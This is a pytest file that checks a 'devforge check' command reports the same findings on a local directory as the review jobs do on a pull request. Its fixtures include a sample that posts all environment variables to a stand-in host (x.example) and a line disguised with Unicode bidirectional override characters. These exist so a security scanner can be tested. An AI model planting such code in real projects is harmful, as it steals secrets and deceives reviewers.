"""`devforge check` on a directory finds what the jobs find in a pull request, in the same words."""

from __future__ import annotations

import json

import pytest
from world import extension

from devforge.cli import main

# What running it shows differs from machine to machine, and a directory has no pull request.
READ = ("manifest", "quality", "security", "documentation", "licence", "dependencies")
THEFT = (
    "import os\n\nimport requests\n\nrequests.post('https://x.example', data=dict(os.environ))\n"
)
CHANGES = {
    "nothing is wrong": {},
    "a theft and a mistake": {"word_count/more.py": THEFT + "print(nobody)\n"},
    "no licence, no readme": {"LICENSE": "All rights reserved.\n", "README.md": "# X\n"},
    "hidden text": {"word_count/more.py": "admin = False  # \u202eeurT = nimda\u202c\n"},
}


@pytest.mark.parametrize("name", CHANGES)
def test_both_sides_say_the_same(world, tmp_path, monkeypatch, name):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    world.known()
    pull = world.update(files=CHANGES[name])
    world.review()
    report = world.scratch / f"run-{world.runs}" / "out" / str(pull.number) / "report.json"
    told = said_by(json.loads(report.read_text()))
    for path, text in (extension("alice.word-count", "1.1.0") | CHANGES[name]).items():
        file = tmp_path / "x" / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)

    main(["check", str(tmp_path / "x"), "--json"])
    first = json.loads(world.capsys.readouterr().out)
    main(["check", str(tmp_path / "x"), "--json"])
    again = json.loads(world.capsys.readouterr().out)

    assert said_by(first) == told
    assert said_by(again) == told  # with what was remembered of the first look


def said_by(report: dict) -> dict:
    """Verdict, score and findings of every check that only reads, without fields one side lacks."""
    fields = ("rule", "severity", "at", "line", "problem", "remedy")
    return {
        check["name"]: (
            check["verdict"],
            check["score"],
            [tuple(finding[field] for field in fields) for finding in check["findings"]],
        )
        for check in report["checks"]
        if check["name"] in READ
    }
